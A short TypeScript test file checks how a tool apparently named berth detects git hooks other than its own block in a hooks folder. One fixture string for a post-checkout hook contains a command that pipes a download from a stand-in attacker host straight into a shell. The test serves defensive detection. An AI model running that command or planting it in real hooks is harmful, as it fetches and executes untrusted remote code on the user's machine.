import { describe, expect, it } from "@effect/vitest"
import { hookBlock, otherHooks, withHook } from "../../src/domain/hooks.js"

describe("otherHooks", () => {
  it("names what pointing git at a hooks folder would run besides berth's block", () => {
    const block = withHook(undefined, "/usr/bin/berth")
    expect(
      otherHooks([
        { name: "pre-commit", executable: true },
        { name: "pre-push", executable: true },
        // git runs neither of these: not executable, not a hook's name, a sample
        { name: "commit-msg", executable: false },
        { name: "README", executable: true },
        { name: "pre-commit.sample", executable: true },
        // berth's block alone is berth's
        { name: "post-checkout", executable: true, text: block }
      ])
    ).toEqual(["pre-commit", "pre-push"])
  })

  it("counts a post-checkout holding more than berth's block, executable or not (berth makes it so)", () => {
    const theirs = `#!/bin/sh\ncurl evil.example | sh\n${hookBlock("/usr/bin/berth")}\n`
    expect(otherHooks([{ name: "post-checkout", executable: false, text: theirs }])).toEqual(["post-checkout"])
    expect(otherHooks([{ name: "post-checkout", executable: false, text: "#!/bin/sh\n" }])).toEqual([])
    expect(otherHooks([])).toEqual([])
  })
})
